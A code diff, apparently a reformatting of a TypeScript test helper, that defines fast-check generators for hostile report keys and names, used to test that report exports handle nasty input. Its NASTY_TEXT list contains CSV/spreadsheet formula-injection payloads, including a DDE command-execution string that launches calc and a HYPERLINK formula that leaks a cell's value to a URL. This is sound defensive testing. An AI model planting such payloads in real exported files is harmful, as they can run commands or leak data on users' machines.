@@ -1,12 +1,20 @@
 /** fast-check generators for reports whose keys and names try to break every format. */
 import fc from 'fast-check';
-import type { Dimension, Figures, PlanRow, Ratios, Report, ReportRow, ReportTable } from '../../src/report/types.js';
+import type {
+  Dimension,
+  Figures,
+  PlanRow,
+  Ratios,
+  Report,
+  ReportRow,
+  ReportTable,
+} from '../../src/report/types.js';
 import { sampleReport } from './sample-report.js';
 
 /** The cases of bad-inputs.md I-4 and I-5, whole. */
 export const NASTY_TEXT = [
   '=HYPERLINK("http://x?"&A1)',
-  '+cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
   '-2+3',
   '@SUM(A1:A9)',
   '\t=1',
@@ -33,8 +41,35 @@ export const NASTY_TEXT = [
 ] as const;
 
 const SPECIAL_UNITS = [
-  '=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠', ' ', '\u3000', '"', ',', "'", '|',
-  '\\', '*', '_', '<', 'a', '1', '.', '中', '\u202e', '\u001b', '😀',
+  '=',
+  '+',
+  '-',
+  '@',
+  '\t',
+  '\r',
+  '\n',
+  '\0',
+  '＝',
+  '＋',
+  '－',
+  '＠',
+  ' ',
+  '\u3000',
+  '"',
+  ',',
+  "'",
+  '|',
+  '\\',
+  '*',
+  '_',
+  '<',
+  'a',
+  '1',
+  '.',
+  '中',
+  '\u202e',
+  '\u001b',
+  '😀',
 ] as const;
 
 export const text: fc.Arbitrary<string> = fc.oneof(
